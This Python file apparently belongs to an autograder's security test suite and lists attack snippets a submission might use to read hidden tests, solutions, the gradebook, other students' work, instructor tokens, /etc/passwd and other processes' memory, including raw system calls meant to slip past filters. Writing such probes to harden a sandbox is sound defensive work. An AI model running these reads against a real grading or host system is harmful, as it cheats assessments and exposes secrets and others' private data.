"""Reading what is not theirs: suites, solutions, labels, the gradebook, the environment, others' work."""

from __future__ import annotations

from attacks.model import Attack

_PLACES = {
    "hidden-suite": ("tests/bank/test_hidden.py", "the hidden suite"),
    "solution": ("solutions/bank/bank.py", "the solution"),
    "solution-notebook": ("solutions/bank/bank.ipynb", "the executed solution"),
    "mistakes": ("solutions/bank/mistakes.py", "the known mistakes"),
    "labels": ("data/labels.csv", "the labels of a data set"),
    "database": ("notes.db", "a database of the instructor"),
    "course-key": (".autograder/key", "the key that seeds are drawn from"),
    "others-copy": ("autograded/earlier-student/bank/bank.ipynb", "another student's graded copy"),
    "others-feedback": ("feedback/earlier-student/bank.html", "another student's feedback page"),
}

BY_PATH = [
    Attack(
        f"read-{name}", "read", f"open {what} by its path",
        act=f"return secret(open(os.path.join(COURSE, {path!r}), 'rb').read())",
    )
    for name, (path, what) in _PLACES.items()
]  # fmt: skip

_HIDDEN = "os.path.join(COURSE, 'tests/bank/test_hidden.py')"

BY_OTHER_WAYS = [
    Attack(
        "read-others-submission", "read", "find what the student before handed in",
        act="""
        folder = os.path.join(COURSE, "submitted")
        for student in sorted(os.listdir(folder)):
            text = open(os.path.join(folder, student, "bank", "bank.ipynb")).read()
            if student != NAME:
                return len(text)
        raise LookupError
        """,
    ),
    Attack(
        "walk-down", "read", "walk through the course for a secret",
        act="""
        for folder, _, files in os.walk(COURSE):
            for name in files:
                try:
                    return secret(open(os.path.join(folder, name), "rb").read())
                except (OSError, LookupError):
                    pass
        raise LookupError
        """,
    ),
    Attack(
        "walk-up", "read", "go up from the working directory and look around at each step",
        act="""
        for up in range(12):
            for folder in (os.path.join(os.getcwd(), *[".."] * up), "/tmp", "/"):
                for name in os.listdir(folder) if os.access(folder, os.R_OK) else []:
                    found = os.path.join(folder, name, "course", "solutions", "bank", "bank.py")
                    if os.path.exists(found):
                        return secret(open(found).read())
        raise LookupError
        """,
    ),
    Attack(
        "symbolic-link", "read", "read the suite through a link of one's own",
        act=f"""
        import tempfile
        link = os.path.join(tempfile.mkdtemp(), "link")
        os.symlink({_HIDDEN}, link)
        return secret(open(link).read())
        """,
    ),
    Attack(
        "hard-link", "read", "make the suite a file of one's own folder by a hard link",
        act=f"""
        import tempfile
        link = os.path.join(tempfile.mkdtemp(dir=os.environ.get("AUTOGRADER_DATA")), "link")
        os.link({_HIDDEN}, link)
        return secret(open(link).read())
        """,
    ),
    Attack(
        "directory-descriptor", "read", "open the folder first, the file relative to it",
        act="""
        folder = os.open(os.path.join(COURSE, "tests"), os.O_PATH | os.O_DIRECTORY)
        return secret(os.read(os.open("bank/test_hidden.py", os.O_RDONLY, dir_fd=folder), 4096))
        """,
    ),
    Attack(
        "change-directory", "read", "go into the course and open without a path",
        act="""
        before = os.getcwd()
        os.chdir(os.path.join(COURSE, "solutions/bank"))
        try:
            return secret(open("bank.py").read())
        finally:
            os.chdir(before)
        """,
    ),
    Attack(
        "reopen-by-proc", "read", "open without rights (O_PATH), then again through /proc/self/fd",
        act=f"""
        handle = os.open({_HIDDEN}, os.O_PATH)
        return secret(open(f"/proc/self/fd/{{handle}}").read())
        """,
    ),
    Attack(
        "map-into-memory", "read", "map the suite into memory",
        act=f"""
        import mmap
        with open({_HIDDEN}, "rb") as file:
            return secret(mmap.mmap(file.fileno(), 0, access=mmap.ACCESS_READ)[:])
        """,
    ),
    Attack("numpy-reader", "read", "let NumPy read it", act=f"""
        import numpy as np
        return secret(np.fromfile({_HIDDEN}, np.uint8))"""),
    Attack("c-library-reader", "read", "let the C library read it", act=f"""
        libc.fopen.restype = ctypes.c_void_p
        file = libc.fopen({_HIDDEN}.encode(), b"r")
        if not file:
            raise OSError(ctypes.get_errno(), "fopen")
        buffer = ctypes.create_string_buffer(4096)
        libc.fread(buffer, 1, 4096, ctypes.c_void_p(file))
        return secret(buffer.raw)"""),
    Attack("raw-open", "read", "open by a bare system call", act=f"""
        number = {{"x86_64": 257, "aarch64": 56}}[os.uname().machine]
        return secret(os.read(raw(number, -100, ctypes.c_char_p({_HIDDEN}.encode()), 0, 0), 4096))"""),
    Attack("openat2", "read", "open by the newer system call, whose flags a filter cannot see", act=f"""
        how = (ctypes.c_uint64 * 3)(0, 0, 0)
        return secret(os.read(raw(437, -100, ctypes.c_char_p({_HIDDEN}.encode()), how, 24), 4096))"""),
    Attack("import-the-suite", "read", "import the suite as a module", act="""
        import importlib.machinery
        path = os.path.join(COURSE, "tests", "bank", "test_hidden.py")
        return secret(importlib.machinery.SourceFileLoader("test_hidden", path).get_source("test_hidden"))"""),
    Attack("import-the-solution", "read", "run the solution and answer with it", act="""
        import runpy
        return list(runpy.run_path(os.path.join(COURSE, "solutions/bank/bank.py")))[:3] and 1"""),
    Attack("line-cache", "read", "ask linecache, as tracebacks do", act=f"""
        import linecache
        return secret("".join(linecache.getlines({_HIDDEN})))"""),
    Attack("sqlite-attach", "read", "attach the instructor's database", act="""
        import sqlite3
        connection = sqlite3.connect(":memory:")
        connection.execute("ATTACH ? AS other", (os.path.join(COURSE, "notes.db"),))
        return secret(connection.execute("SELECT text FROM other.notes").fetchone()[0])"""),
    Attack("gradebook-scores", "read", "read the gradebook", act="""
        import sqlite3
        path = os.path.join(COURSE, "gradebook.db")
        open(path, "rb").close()
        return len(sqlite3.connect(path).execute("SELECT * FROM student").fetchall()) + 1"""),
    Attack("system-accounts", "read", "read the list of accounts", act="return open('/etc/passwd').read(20)"),
    Attack("temporary-files", "read", "look into temporary folders", act="""
        folder = os.path.join(os.path.dirname(COURSE), "tmp")
        return secret(open(os.path.join(folder, sorted(os.listdir(folder))[-1])).read())"""),
    Attack("labels-in-packages", "read", "take the labels from the packages that carry the data", act="""
        import gzip, importlib.util
        site = os.path.dirname(os.path.dirname(importlib.util.find_spec("numpy").origin))
        with gzip.open(os.path.join(site, "sklearn/datasets/data/digits.csv.gz")) as file:
            return file.readline()[-4:]"""),
    Attack("load-dataset", "read", "ask the kit for the data with its labels", control=False, act="""
        from autograder import load_dataset
        return load_dataset("digits").y_test[:3]"""),
    Attack("engine-sources", "read", "find the course by way of the installed engine", control=False, act="""
        import autograder.datasets
        return autograder.datasets.__file__"""),
    Attack("editable-install", "read", "follow an editable install to the repository", act="""
        import glob
        site = next(path for path in sys.path if path.endswith("site-packages"))
        for finder in glob.glob(site + "/__editable__*finder.py") + glob.glob(site + "/*.pth"):
            for folder in re.findall(r"(/[^'\\n]*)/autograder", open(finder).read()):
                return open(os.path.join(folder, "course.yml")).read(20)
        raise LookupError"""),
]  # fmt: skip

PROCESSES = [
    Attack("environment", "read", "read the environment", act="""
        return secret(repr(sorted(os.environ.items())))""", control=False),
    Attack("c-environment", "read", "ask the C library for the environment", control=False, act="""
        libc.getenv.restype = ctypes.c_char_p
        return secret(libc.getenv(b"INSTRUCTOR_TOKEN") or b"")"""),
    Attack("initial-stack", "read", "read the environment that the program was started with", control=False,
        act="""
        libc.getauxval.restype = ctypes.c_ulong
        return secret(ctypes.string_at(libc.getauxval(31) - 3000, 3000))"""),
    Attack("proc-environment", "read", "read the environment of every process", act="""
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                return secret(open(f"/proc/{pid}/environ", "rb").read())
            except (OSError, LookupError):
                pass
        raise LookupError"""),
    Attack("proc-command-lines", "read", "read what every process was started with", act="""
        return [open(f"/proc/{pid}/cmdline").read()[:20] for pid in (VICTIM, os.getppid(), 1)]"""),
    Attack("proc-descriptors", "read", "read the open files of every process", act="""
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                for number in os.listdir(f"/proc/{pid}/fd"):
                    try:
                        if os.path.isfile(f"/proc/{pid}/fd/{number}"):
                            return secret(open(f"/proc/{pid}/fd/{number}", "rb").read(4096))
                    except (OSError, LookupError):
                        pass
            except OSError:
                pass
        raise LookupError"""),
    Attack("proc-root", "read", "reach files through another process's root and working directory", act="""
        for pid in filter(str.isdigit, os.listdir("/proc")):
            for way in ("root", "cwd"):
                try:
                    return secret(open(f"/proc/{pid}/{way}{COURSE}/solutions/bank/bank.py").read())
                except (OSError, LookupError):
                    pass
        raise LookupError"""),
    Attack("proc-memory", "read", "read another process's memory through /proc", act="""
        for line in open(f"/proc/{VICTIM}/maps"):
            if "[heap]" in line or "[stack]" in line:
                low, high = (int(part, 16) for part in line.split()[0].split("-"))
                with open(f"/proc/{VICTIM}/mem", "rb", 0) as memory:
                    memory.seek(low)
                    try:
                        return secret(memory.read(high - low))
                    except LookupError:
                        pass
        raise LookupError"""),
    Attack("inherited-descriptors", "read", "read from whatever descriptor is open already", control=False,
        act="""
        import stat
        for number in range(3, 1024):
            try:
                if stat.S_ISREG(os.fstat(number).st_mode):
                    return os.pread(number, 100, 0)
            except OSError:
                pass
        raise LookupError"""),
    Attack("segments-of-others", "read", "attach the shared memory segments of other programs", act="""
        libc.shmat.restype = ctypes.c_void_p
        for index in range(64):
            status = ctypes.create_string_buffer(256)
            number = libc.shmctl(index, 13, status)  # SHM_STAT
            if number < 0:
                continue
            address = libc.shmat(number, None, 0o10000)
            if address not in (None, 2**64 - 1):
                try:
                    return secret(ctypes.string_at(address, 64))
                except LookupError:
                    pass
        raise LookupError"""),
    Attack("shared-memory-folder", "read", "list what other programs share", act="""
        return len(os.listdir("/dev/shm")) + 1"""),
    Attack("devices", "read", "read the machine's devices", act="""
        return [name for name in os.listdir("/dev")
                if name in ("mem", "kmsg", "vda", "sda", "ptmx", "tty", "null", "random")]"""),
    Attack("kernel-log", "read", "read the kernel's log", control=False, act="""
        number = {"x86_64": 103, "aarch64": 116}[os.uname().machine]
        buffer = ctypes.create_string_buffer(4096)
        return raw(number, 3, buffer, 4096)"""),
    Attack("file-handle", "read", "open a file by its handle, past its path", act="""
        at, by = {"x86_64": (303, 304), "aarch64": (264, 265)}[os.uname().machine]
        path = os.path.join(COURSE, "solutions/bank/bank.py").encode()
        handle = (ctypes.c_uint32 * 34)(128, 0)
        mount = ctypes.c_int()
        raw(at, -100, ctypes.c_char_p(path), handle, ctypes.byref(mount), 0)
        root = os.open("/", os.O_RDONLY)
        return secret(os.read(raw(by, root, handle, 0), 4096))""", control=False),
]  # fmt: skip

_SEARCH = """
        import types
        seen = set()
        def search(value, depth=0):
            if id(value) in seen or depth > 4:
                return None
            seen.add(id(value))
            if isinstance(value, (str, bytes)):
                try:
                    return secret(value)
                except LookupError:
                    return None
            parts = value.values() if type(value) is dict else value if type(value) in (list, tuple) else ()
            for part in list(parts)[:500]:
                found = search(part, depth + 1)
                if found:
                    return found
"""

MEMORY = [
    Attack("tracebacks", "read", "raise, and follow the traceback's frames to the grader", control=False,
        act=_SEARCH + """
        try:
            1 / 0
        except ZeroDivisionError as error:
            frame = error.__traceback__.tb_frame
        while frame is not None:
            for space in (dict(frame.f_locals), dict(frame.f_globals)):
                found = search(space)
                if found:
                    return found
            frame = frame.f_back
        raise LookupError"""),
    Attack("frames", "read", "search every frame for the reference or the suite", control=False, act="""
        for frame in sys._current_frames().values():
            while frame is not None:
                for name in ("reference", "suite", "_reference", "solution"):
                    if name in frame.f_locals or name in frame.f_globals:
                        return name
                frame = frame.f_back
        raise LookupError"""),
    Attack("garbage-collector", "read", "search every object that the collector knows", control=False,
        act=_SEARCH + """
        import gc
        gc.unfreeze()
        for value in gc.get_objects()[:200000]:
            found = search(value, 3)
            if found:
                return found
        raise LookupError"""),
    Attack("loaded-modules", "read", "find suite or solution among the loaded modules", control=False, act="""
        found = [name for name in sys.modules if re.search(r"test_hidden|solution|autograder\\.\\w|^_pytest", name)]
        return found[0]"""),
    Attack("cached-lines", "read", "search the lines that tracebacks would show", control=False,
        act=_SEARCH + """
        import linecache
        found = [search(list(entry)) for entry in linecache.cache.values()]
        return next(filter(None, found))"""),
    Attack("own-memory", "read", "scan this process's memory for what it was forked from", control=False,
        act="""
        for line in open("/proc/self/maps"):
            low, high = (int(part, 16) for part in line.split()[0].split("-"))
            if "rw" in line and high - low < 2**26:
                try:
                    return secret(ctypes.string_at(low, high - low))
                except LookupError:
                    pass
        raise LookupError"""),
    Attack("reference-by-upcall", "read", "use the way to the reference for other names than the one served",
        control=False, nbgrader=False, answers={
        "classify": """
        def classify(scores):
            for cell in getattr(softmax, "__closure__", None) or ():
                upcall = cell.cell_contents
                if callable(upcall):
                    for name in ("classify", "__builtins__", "np", "slope", "eval", "__import__"):
                        try:
                            result = upcall(name, (scores,), {})
                            raise RuntimeError("DONE-" + NAME + repr(result))
                        except PermissionError:
                            pass
                        except RuntimeError as error:
                            if "not served" not in str(error):
                                raise
            raise RuntimeError("no way")
        """}),
    Attack("reference-by-its-errors", "read", "make the reference fail, and read what it says", control=False,
        nbgrader=False, answers={
        "classify": """
        def classify(scores):
            said = []
            for argument in (None, "x", [], {}, np.ones(3), np.ones((0, 0)), 10**400):
                try:
                    softmax(argument)
                except Exception as error:
                    said.append(repr(error))
            raise RuntimeError(secret(" ".join(said)))
        """}),
]  # fmt: skip

ATTACKS = [*BY_PATH, *BY_OTHER_WAYS, *PROCESSES, *MEMORY]
